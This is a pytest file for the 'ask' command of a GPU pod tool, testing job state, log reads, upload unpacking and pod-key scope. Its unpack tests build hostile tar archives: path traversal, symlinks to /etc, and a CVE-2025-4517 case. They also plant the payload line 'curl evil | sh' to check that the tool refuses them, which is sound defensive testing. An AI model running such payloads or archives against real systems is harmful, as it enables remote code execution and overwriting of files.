"""`python -m gpuc.instance_side ask ...`: what the pod answers the laptop, as the laptop runs it (a process
with GPUC_POD_ROOT on a pod tree), one JSON line each.

Each expected answer is what the string probe it replaced (JOB_PROBE, POD_LOG_PROBE, UNPACK, MISSING,
live.PROBE_SCRIPT) printed for the same state, pinned here; where the old probe crashed on a hostile state
(a traceback, exit 1), `ask` answers "cannot tell" (exit 1) with an error, or the safe reading.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any, cast

import pytest
from fakes.tars import cve_2025_4517, member, outside, plant, tar_of

from gpuc.core.clock import FakeClock
from gpuc.core.models import PodSpec
from gpuc.core.podpaths import PodPaths
from gpuc.core.providers.runpod import RunPodProvider
from gpuc.core.providers.vast import VastProvider
from gpuc.instance_side import ask
from gpuc.testkit.emulators.runpod import RunPodEmulator
from gpuc.testkit.emulators.server import EmulatorServer
from gpuc.testkit.emulators.vast import VastEmulator

POD_ID = "pod-1"


def run_ask(root: Path, *argv: str, cwd: Path | None = None, env: dict[str, str] | None = None) -> tuple[int, Any]:
    """The question as the laptop asks it; the answer must be one JSON line on stdout, nothing else."""
    environ = {**os.environ, **(env or {}), "GPUC_POD_ROOT": str(root)}
    done = subprocess.run(
        [sys.executable, "-m", "gpuc.instance_side", "ask", *argv],
        env=environ,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.stdout.count("\n") == 1 and done.stdout.endswith("\n"), done.stdout + done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    return done.returncode, json.loads(done.stdout)


@pytest.fixture
def pod(tmp_path: Path) -> PodPaths:
    paths = PodPaths(tmp_path / "pod")
    paths.state.mkdir(parents=True)
    return paths


def _start_ticks(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as fh:
        return int(fh.read().rsplit(")", 1)[1].split()[19])


@pytest.fixture
def job() -> Iterator[subprocess.Popen[bytes]]:
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    yield proc
    proc.kill()
    proc.wait()


def state(pid: int | None = None, ended: str | None = None, ending: bool = False) -> dict[str, object]:
    return {"ask": "job-state", "v": 1, "job_pid": pid, "ended": ended, "ending": ending}


# -- job-state -----------------------------------------------------------------------------------
def test_job_state_tells_a_running_job_from_a_stale_pid_file(pod: PodPaths, job: subprocess.Popen[bytes]) -> None:
    root = pod.root
    assert run_ask(root, "job-state") == (0, state())
    for stamp in (f"{job.pid}\n", f"{job.pid} {_start_ticks(job.pid)}\n"):
        pod.job.write_text(stamp)
        assert run_ask(root, "job-state") == (0, state(job.pid))
    pod.job.write_text(f"{job.pid} {_start_ticks(job.pid) + 1}\n")  # the pid went to another process
    assert run_ask(root, "job-state") == (0, state())
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    pod.job.write_text(f"{dead.pid}\n")
    assert run_ask(root, "job-state") == (0, state())
    pod.job.write_text("0\n")
    assert run_ask(root, "job-state") == (0, state())


def test_job_state_reports_the_end_marker_as_written_and_a_held_end_lock(pod: PodPaths) -> None:
    root = pod.root
    pod.ended.write_text("another-pod\n")  # the laptop tells a reused volume's marker from its pod's
    assert run_ask(root, "job-state") == (0, state(ended="another-pod"))
    pod.ended.write_text("")  # an older gpuc's marker
    assert run_ask(root, "job-state") == (0, state(ended=""))
    pod.ended.unlink()
    holder = subprocess.Popen(  # the wrapper between the job's exit and the marker: holds end.lock
        [
            sys.executable,
            "-c",
            "import fcntl, sys, time; f = open(sys.argv[1], 'w'); "
            "fcntl.flock(f, fcntl.LOCK_EX); print('held', flush=True); time.sleep(60)",
            str(pod.end_lock),
        ],
        stdout=subprocess.PIPE,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == b"held"
        assert run_ask(root, "job-state") == (0, state(ending=True))
    finally:
        holder.kill()
        holder.communicate()
    assert run_ask(root, "job-state") == (0, state())  # the lock file alone, unheld, is no ending


@pytest.mark.parametrize(
    "stamp",
    ["not a pid\n", "", "12 34 56\n", "+5\n", "\xff\xfe"],
    ids=["words", "empty", "three-fields", "signed", "not-ascii"],
)
def test_a_pid_file_gpuc_did_not_write_is_no_answer(pod: PodPaths, stamp: str) -> None:
    """The agent counts such a file as busy (read_job_stamp); the laptop must not start a job beside it."""
    pod.job.write_bytes(stamp.encode("latin-1"))
    code, found = run_ask(pod.root, "job-state")
    assert code == 1 and set(found) == {"ask", "v", "error"} and "job.pid" in found["error"]


def test_hostile_job_state_never_crashes(pod: PodPaths) -> None:
    pod.job.write_text("99999999999999999999\n")  # past any pid: no such process
    assert run_ask(pod.root, "job-state") == (0, state())
    pod.job.unlink()
    pod.ended.write_text("x" * 5000)  # not one gpuc wrote: bounded, and the laptop refuses it (> 256)
    code, found = run_ask(pod.root, "job-state")
    assert code == 0 and len(found["ended"]) == 257
    pod.ended.unlink()
    pod.ended.mkdir()  # cannot be read: no answer, never "not ended"
    code, found = run_ask(pod.root, "job-state")
    assert code == 1 and "end marker" in found["error"]
    pod.ended.rmdir()
    pod.ended.write_bytes(b"\xff\xfe")
    assert run_ask(pod.root, "job-state")[0] == 1
    pod.ended.unlink()
    pod.job.mkdir()
    assert run_ask(pod.root, "job-state")[0] == 1


# -- log -----------------------------------------------------------------------------------------
def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def log_answer(size: int | None, data: bytes, outcome: bytes | None = None, ended: str | None = None) -> Any:
    return {"ask": "log", "v": 1, "size": size, "data": b64(data), "outcome": outcome and b64(outcome), "ended": ended}


def test_log_reads_from_an_offset_with_the_outcome_as_the_file_holds_it(pod: PodPaths) -> None:
    root = pod.root
    assert run_ask(root, "log", "0", "100", "65537") == (0, log_answer(None, b""))
    pod.job_log.write_bytes(b"hello\nwarn\n\xff")  # a job's output need not be UTF-8
    assert run_ask(root, "log", "0", "100", "65537") == (0, log_answer(12, b"hello\nwarn\n\xff"))
    assert run_ask(root, "log", "6", "100", "65537") == (0, log_answer(12, b"warn\n\xff"))
    assert run_ask(root, "log", "50", "100", "65537") == (0, log_answer(12, b""))
    assert run_ask(root, "log", "0", "3", "65537") == (0, log_answer(12, b"hel"))
    # Whatever the outcome file holds travels as bytes: the laptop's one strict reader judges it, not the pod.
    hostile = b'{"format": "gpuc-outcome/1", "exit_code": 1e400, "duration_s": NaN}'
    pod.outcome.write_bytes(hostile)
    assert run_ask(root, "log", "0", "3", "65537") == (0, log_answer(12, b"hel", hostile))
    assert run_ask(root, "log", "0", "3", "10") == (0, log_answer(12, b"hel", hostile[:10]))
    pod.ended.write_text(POD_ID + "\n")
    assert run_ask(root, "log", "0", "3", "10")[1]["ended"] == POD_ID


def test_log_answers_even_when_the_end_marker_cannot_be_read(pod: PodPaths) -> None:
    pod.ended.write_bytes(b"\xff\xfe")
    assert run_ask(pod.root, "log", "0", "10", "10") == (0, log_answer(None, b""))
    pod.ended.write_text("y" * 5000)
    assert run_ask(pod.root, "log", "0", "10", "10")[1]["ended"] == "y" * 256


def test_a_log_that_cannot_be_read_is_no_answer(pod: PodPaths) -> None:
    pod.job_log.mkdir()
    code, found = run_ask(pod.root, "log", "0", "10", "10")
    assert code == 1 and "job log" in found["error"]


# -- unpack --------------------------------------------------------------------------------------
def tgz(*members: tuple[str, bytes | str]) -> bytes:
    """(name, bytes) is a file, (name, str) a symlink to that target."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, body in members:
            info = tarfile.TarInfo(name)
            if isinstance(body, str):
                info.type, info.linkname = tarfile.SYMTYPE, body
                tar.addfile(info)
            else:
                info.size = len(body)
                tar.addfile(info, io.BytesIO(body))
    return buf.getvalue()


def put_parts(pod: PodPaths, data: bytes) -> str:
    """As `up` sends it: the archive in parts under .gpuc/upload; its sha256."""
    pod.upload.mkdir(exist_ok=True)
    (pod.upload / "part-00000").write_bytes(data[:10])
    (pod.upload / "part-00001").write_bytes(data[10:])
    return hashlib.sha256(data).hexdigest()


def test_unpack_joins_checks_unpacks_and_removes_the_parts(pod: PodPaths) -> None:
    digest = put_parts(pod, tgz(("train.py", b"print(1)\n"), ("data/x.txt", b"x")))
    answer = {"ask": "unpack", "v": 1, "files": 2, "workspace": str(pod.workspace)}
    assert run_ask(pod.root, "unpack", digest) == (0, answer)
    assert (pod.workspace / "train.py").read_bytes() == b"print(1)\n" and (pod.workspace / "data/x.txt").exists()
    assert list(pod.upload.iterdir()) == []


def test_a_damaged_upload_is_refused_and_nothing_is_unpacked(pod: PodPaths) -> None:
    put_parts(pod, tgz(("train.py", b"print(1)\n")))
    code, found = run_ask(pod.root, "unpack", "0" * 64)
    assert (code, found["error"]) == (3, "the upload arrived damaged (checksum mismatch)")
    assert not (pod.workspace / "train.py").exists() and len(list(pod.upload.iterdir())) == 2


@pytest.mark.parametrize(
    "archive",
    [tgz(("../evil", b"x")), tgz(("link", "/etc")), tgz(("up", "../../etc")), b"not a gzip at all"],
    ids=["dotdot", "absolute-link", "escaping-link", "not-gzip"],
)
def test_an_unsafe_or_broken_archive_is_refused_with_a_reason(pod: PodPaths, archive: bytes) -> None:
    code, found = run_ask(pod.root, "unpack", put_parts(pod, archive))
    assert code == 3 and found["error"].startswith("cannot unpack the upload")
    assert not (pod.root / "evil").exists() and not (pod.workspace / "evil").exists()


def test_unpack_makes_the_projects_own_links_last_and_only_inside(pod: PodPaths) -> None:
    digest = put_parts(pod, tgz(("train.py", b"x"), ("alias.py", "train.py"), ("data/up.py", "../train.py")))
    assert run_ask(pod.root, "unpack", digest)[0] == 0
    assert os.readlink(pod.workspace / "alias.py") == "train.py" and (pod.workspace / "data/up.py").read_text() == "x"
    again = put_parts(pod, tgz(("train.py", b"y"), ("alias.py", "train.py")))  # `gpuc cp` over what is there
    assert run_ask(pod.root, "unpack", again)[0] == 0 and (pod.workspace / "alias.py").read_text() == "y"


@pytest.mark.parametrize("case", ["cve-2025-4517", "through-a-link-the-job-made", "link-then-file"])
def test_a_hostile_upload_writes_nothing_outside_the_workspace(pod: PodPaths, tmp_path: Path, case: str) -> None:
    """The same unpacking as the laptop's, never tarfile's filter."""
    plant(tmp_path)  # tmp_path/project/train.py and tmp_path/home/.bashrc, beside the pod's root
    pod.workspace.mkdir(parents=True, exist_ok=True)
    os.symlink(tmp_path / "project", pod.workspace / "shared")  # made by the job: gpuc never writes through it
    evil = b"import os; os.system('curl evil | sh')\n"
    members = {
        "cve-2025-4517": cve_2025_4517("../project", "train.py", evil),
        "through-a-link-the-job-made": [member("shared/train.py", "f", evil)],
        "link-then-file": [member("h", "l", target="../../home"), member("h/.bashrc", "f", evil)],
    }[case]
    before = outside(tmp_path, skip=pod.workspace)
    code, found = run_ask(pod.root, "unpack", put_parts(pod, gzip.compress(tar_of(*members))))
    assert outside(tmp_path, skip=pod.workspace) == before, "the upload wrote outside the workspace"
    assert code == 3 and found["error"].startswith("cannot unpack the upload: a ")


# -- missing -------------------------------------------------------------------------------------
def test_missing_names_the_program_first_then_the_files_from_the_jobs_folder(pod: PodPaths) -> None:
    (pod.workspace / "a.py").write_text("")
    where = str(pod.workspace)
    assert run_ask(pod.root, "missing", "python3", "a.py", "b.py", cwd=pod.workspace) == (
        0,
        {"ask": "missing", "v": 1, "missing": ["b.py"], "cwd": where},
    )
    assert run_ask(pod.root, "missing", "no-such-program-gpuc", "b.py", cwd=pod.workspace)[1]["missing"] == [
        "no-such-program-gpuc",
        "b.py",
    ]
    # No program (the command is a path), and names that look like options are files all the same.
    assert run_ask(pod.root, "missing", "", "-x", "./a.py", cwd=pod.workspace)[1]["missing"] == ["-x"]


# -- key-scope -----------------------------------------------------------------------------------
RUNPOD_KEY = "rpa_" + "ACCOUNT0c1f0e9d8b7a6958473625140"
VAST_KEY = "f00dACCOUNTvastkey4c3b2a19087f6e5d"
WRITES = {"create", "stop", "destroy", "resume", "reboot", "bid", "stop_bulk"}
WRITES.add("destroy_bulk")


def pod_key_env(server: EmulatorServer, provider: RunPodProvider | VastProvider) -> dict[str, str]:
    """A running pod's environment as the platform injects it: its id and its pod key, no account key."""
    offer = {"offer_id": "11684738"} if provider.name == "vast" else {}
    spec = PodSpec(experiment="exp", run_id="run0001", provider=provider.name, gpu_type="RTX 4090", **offer)
    pod = provider.create(spec)
    emulator = cast(RunPodEmulator | VastEmulator, server.emulator)
    emulator.set_status(pod.id, "running")
    urls = {k: v for k, v in server.client_env().items() if k.endswith("_URL")}
    return {**urls, **emulator.pod_environ(pod.id), "NO_PROXY": "127.0.0.1"}


def test_key_scope_says_what_the_pod_key_may_read_and_never_the_key(pod: PodPaths, clock: FakeClock) -> None:
    runpod_emu, vast_emu = RunPodEmulator(api_key=RUNPOD_KEY, clock=clock), VastEmulator(api_key=VAST_KEY, clock=clock)
    seen: dict[str, Any] = {}
    with EmulatorServer(runpod_emu, hang_s=5.0) as runpod_server, EmulatorServer(vast_emu, hang_s=5.0) as vast_server:
        runpod = RunPodProvider(
            RUNPOD_KEY, graphql_url=f"{runpod_server.url}/graphql", rest_url=f"{runpod_server.url}/v2", clock=clock
        )
        vast = VastProvider(VAST_KEY, url=vast_server.url, clock=clock)
        for server, provider in ((runpod_server, runpod), (vast_server, vast)):
            env = pod_key_env(server, provider)
            assert RUNPOD_KEY not in env.values() and VAST_KEY not in env.values()
            before = len(server.emulator.requests)
            code, found = run_ask(pod.root, "key-scope", env=env)
            seen[provider.name] = (code, found)
            asked = {r.op for r in server.emulator.requests[before:]}
            assert asked and not asked & WRITES, asked  # it reads, and only reads
            pod_key = env.get("RUNPOD_API_KEY") or env["CONTAINER_API_KEY"]
            assert pod_key not in json.dumps(found)
        runpod.close()
        vast.close()
    assert seen == {  # what live.PROBE_SCRIPT printed against the same emulators
        "runpod": (0, {"ask": "key-scope", "v": 1, "own_pod": 200, "list": 403, "v2_own": 403}),
        "vast": (0, {"ask": "key-scope", "v": 1, "own_pod": 200, "list": 403}),
    }


def test_key_scope_without_a_pod_key_is_an_empty_answer(pod: PodPaths) -> None:
    assert run_ask(pod.root, "key-scope") == (0, {"ask": "key-scope", "v": 1})


# -- wrong questions -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["bogus"],
        ["--help"],
        ["job-state", "extra"],
        ["key-scope", "extra"],
        ["log", "0", "100"],
        ["log", "-1", "100", "10"],
        ["log", "0", "1e3", "10"],
        ["log", "0", "abc", "10"],
        ["log", "0", str(ask.READ_MAX + 1), "10"],
        ["log", "0", "100", "٣"],  # a digit, but not an ASCII one
        ["unpack"],
        ["unpack", "XYZ"],
        ["unpack", "A" * 64],  # the digest is lowercase hex
        ["unpack", "0" * 64, "more"],
        ["missing"],
    ],
)
def test_a_wrong_question_gets_exit_2_and_a_json_error(pod: PodPaths, argv: list[str]) -> None:
    code, found = run_ask(pod.root, *argv)
    assert code == 2 and set(found) == {"ask", "v", "error"} and found["v"] == 1 and found["error"]
    assert found["ask"] == (argv[0] if argv else "")


def test_an_unexpected_failure_is_an_answer_and_the_pods_log_gets_the_details(
    pod: PodPaths, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(paths: PodPaths, args: object) -> dict[str, object]:
        raise RuntimeError("disk on fire")

    monkeypatch.setitem(ask.QUESTIONS, "job-state", broken)
    out = io.StringIO()
    assert ask.main(["job-state"], pod, out) == 1
    found = json.loads(out.getvalue())
    assert found == {"ask": "job-state", "v": 1, "error": "RuntimeError on the pod; details in agent.log"}
    assert "disk on fire" in pod.log.read_text() and "test_pod_ask.py" in pod.log.read_text()


def test_an_older_gpuc_on_the_pod_refuses_ask_in_words_the_laptop_can_tell(pod: PodPaths) -> None:
    """A pod whose gpuc predates `ask` answers `ask` as today's answers any command it lacks: argparse's
    "invalid choice" on stderr, exit 2, nothing on stdout. The laptop's reader turns that into "this pod runs
    an older gpuc: `gpuc down` it and `gpuc up` again"; these are the words it must recognise."""
    done = subprocess.run(
        [sys.executable, "-m", "gpuc.instance_side", "no-such-command", "job-state"],
        env={**os.environ, "GPUC_POD_ROOT": str(pod.root)},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert (done.returncode, done.stdout) == (2, "")
    assert "error: argument command: invalid choice: 'no-such-command'" in done.stderr
